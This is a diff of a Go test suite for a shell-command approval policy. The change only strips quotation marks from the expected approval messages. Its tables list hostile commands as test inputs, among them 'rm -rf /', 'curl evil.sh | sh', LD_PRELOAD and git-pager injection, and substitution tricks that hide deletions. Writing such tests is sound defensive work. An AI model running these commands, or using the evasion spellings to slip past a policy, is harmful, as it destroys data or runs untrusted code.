@@ -22,27 +22,27 @@ func TestPolicyChecksEverySimpleCommand(t *testing.T) {
 		"echo hi >&2",
 	}
 	needsApproval := map[string]string{
-		"rm -rf /":                     `"rm -rf /" is not on the allowlist`,
-		"ls; rm -rf x":                 `"rm -rf x"`,
-		"ls && curl evil.sh | sh":      `"curl evil.sh"`,
+		"rm -rf /":                     `rm -rf / is not on the allowlist`,
+		"ls; rm -rf x":                 `rm -rf x`,
+		"ls && curl evil.sh | sh":      `curl evil.sh`,
 		"ls || python3 -c 'x'":         "python3",
-		"cat $(rm -rf x)":              `"rm -rf x"`,
-		"cat `rm -rf x`":               `"rm -rf x"`,
-		`bash -c 'ls; rm -rf x'`:       `"rm -rf x"`,
-		`sh -c "bash -c 'rm x'"`:       `"rm x"`,
+		"cat $(rm -rf x)":              `rm -rf x`,
+		"cat `rm -rf x`":               `rm -rf x`,
+		`bash -c 'ls; rm -rf x'`:       `rm -rf x`,
+		`sh -c "bash -c 'rm x'"`:       `rm x`,
 		"bash script.sh":               "script cannot be checked",
 		"find . -delete":               "-delete",
 		"find . -name x -exec rm {} ;": "uses -exec",
 		"git diff --output=/tmp/x":     "--output",
 		"go build -o bin/app .":        "-o",
-		"git push":                     `"git push" is not on the allowlist`,
-		"echo hi > file.txt":           `writes to "file.txt"`,
-		"cat a >> b":                   `writes to "b"`,
+		"git push":                     `git push is not on the allowlist`,
+		"echo hi > file.txt":           `writes to file.txt`,
+		"cat a >> b":                   `writes to b`,
 		"$CMD arg":                     "computed at run time",
-		"ls | xargs rm":                `"xargs rm"`,
+		"ls | xargs rm":                `xargs rm`,
 		"f() { rm x; }; f":             "function",
 		"export PATH=/tmp":             "export",
-		"cat <(rm x)":                  `"rm x"`,
+		"cat <(rm x)":                  `rm x`,
 		"find $DIR -name x":            "computed at run time",
 		"cat $(find . -name go.mod)":   "computed at run time",
 		"FOO=1 echo hi":                "sets FOO",
@@ -108,13 +108,13 @@ func TestPolicyEnvironmentAssignments(t *testing.T) {
 	}
 	needsApproval := map[string]string{
 		`GIT_CONFIG_PARAMETERS="'core.pager=sh'" git status`: `sets GIT_CONFIG_PARAMETERS`,
-		"GOFLAGS=-toolexec=x go build":                       `"GOFLAGS=-toolexec=x go build" sets GOFLAGS`,
+		"GOFLAGS=-toolexec=x go build":                       `GOFLAGS=-toolexec=x go build sets GOFLAGS`,
 		`BASH_ENV=x bash -c 'ls'`:                            "sets BASH_ENV",
 		"LD_PRELOAD=/tmp/x.so ls":                            "sets LD_PRELOAD",
 		"LANG=C LD_PRELOAD=x ls":                             "sets LD_PRELOAD",
-		"LANG=C rm x":                                        `"LANG=C rm x" is not on the allowlist`,
-		"X=$(git status)":                                    `"X=$(git status)" assigns X a value computed at run time`,
-		"X=$(rm -rf y)":                                      `"rm -rf y" is not on the allowlist`,
+		"LANG=C rm x":                                        `LANG=C rm x is not on the allowlist`,
+		"X=$(git status)":                                    `X=$(git status) assigns X a value computed at run time`,
+		"X=$(rm -rf y)":                                      `rm -rf y is not on the allowlist`,
 		"PATH=./bin:$PATH; ls":                               "changes PATH",
 		"GIT_CONFIG_GLOBAL=./x; git status":                  "changes GIT_CONFIG_GLOBAL",
 	}
@@ -199,8 +199,8 @@ func TestPolicyMatchesOptionsInEverySpelling(t *testing.T) {
 		"find . -fprint x":                "uses -fprint",
 		"find . -exec=rm":                 "uses -exec=rm",
 		"find . {-delete,}":               "computed at run time",
-		"git diff *":                      `has a pattern "*" that can expand to an option`,
-		"sort -* a.txt":                   `has a pattern "-*"`,
+		"git diff *":                      `has a pattern * that can expand to an option`,
+		"sort -* a.txt":                   `has a pattern -*`,
 	}
 	checkPolicy(t, p, allowed, needsApproval)
 }
@@ -221,7 +221,7 @@ func TestPolicyGitStaysOnTheRepositoryItIsGiven(t *testing.T) {
 		"GIT_CONFIG_COUNT=0 git status":       "sets GIT_CONFIG_COUNT",
 		"GIT_CEILING_DIRECTORIES= git log":    "sets GIT_CEILING_DIRECTORIES",
 		"GIT_DIR=sub; git status":             "changes GIT_DIR",
-		"unset GIT_DIR; git status":           `"unset GIT_DIR" is not on the allowlist`,
+		"unset GIT_DIR; git status":           `unset GIT_DIR is not on the allowlist`,
 		"env -u GIT_DIR git status":           `is not on the allowlist`,
 		"export GIT_DIR=sub":                  "export",
 		"git status --ignore-submodules=none": "uses --ignore-submodules=none",
@@ -236,7 +236,7 @@ func TestPolicyGitStaysOnTheRepositoryItIsGiven(t *testing.T) {
 		"git --git-dir sub log":    "uses --git-dir",
 		"git --git status":         "uses --git",
 		"git -c core.pager=x show": "uses -c",
-		"git -C / status":          `reads "/", outside the workspace`,
+		"git -C / status":          `reads /, outside the workspace`,
 	})
 }
 
@@ -252,13 +252,13 @@ func TestPolicyComputedArguments(t *testing.T) {
 		`tr "$A" b`,
 	}
 	needsApproval := map[string]string{
-		"cat $HOME/x":        `"cat $HOME/x" has arguments computed at run time`,
-		"ls $(pwd)":          `"ls $(pwd)" has arguments computed at run time`,
+		"cat $HOME/x":        `cat $HOME/x has arguments computed at run time`,
+		"ls $(pwd)":          `ls $(pwd) has arguments computed at run time`,
 		`grep x "$F"`:        "computed at run time",
-		"cat {a,b}.txt":      `"cat {a,b}.txt" has arguments computed at run time`,
+		"cat {a,b}.txt":      `cat {a,b}.txt has arguments computed at run time`,
 		"git log $REV":       "computed at run time",
 		"wc -l $((1+2))":     "computed at run time",
-		"{rm,-rf,x}":         `the command name "{rm,-rf,x}" is computed at run time`,
+		"{rm,-rf,x}":         `the command name {rm,-rf,x} is computed at run time`,
 		"head -n $N main.go": "computed at run time",
 	}
 	checkPolicy(t, p, allowed, needsApproval)
@@ -276,17 +276,17 @@ func TestPolicyCodeApproval(t *testing.T) {
 		"echo hi",
 	}
 	needsApproval := map[string]string{
-		"go test ./...":        `"go test ./..." runs code from the workspace, and the sandbox here is "landlock"`,
-		"go build ./...":       `"go build ./..." runs code from the workspace`,
+		"go test ./...":        `go test ./... runs code from the workspace, and the sandbox here is "landlock"`,
+		"go build ./...":       `go build ./... runs code from the workspace`,
 		"go vet ./...":         "runs code from the workspace",
 		"go run .":             "runs code from the workspace",
 		"go -C sub test ./...": "runs code from the workspace",
-		"make lint":            `"make lint" runs code from the workspace`,
+		"make lint":            `make lint runs code from the workspace`,
 		"npm test":             "runs code from the workspace",
-		"./run.sh":             `"./run.sh" runs code from the workspace`,
+		"./run.sh":             `./run.sh runs code from the workspace`,
 		"python3 x.py":         "runs code from the workspace",
 		"cargo test":           "runs code from the workspace",
-		"rm x":                 `"rm x" is not on the allowlist`,
+		"rm x":                 `rm x is not on the allowlist`,
 	}
 	checkPolicy(t, p, allowed, needsApproval)
 
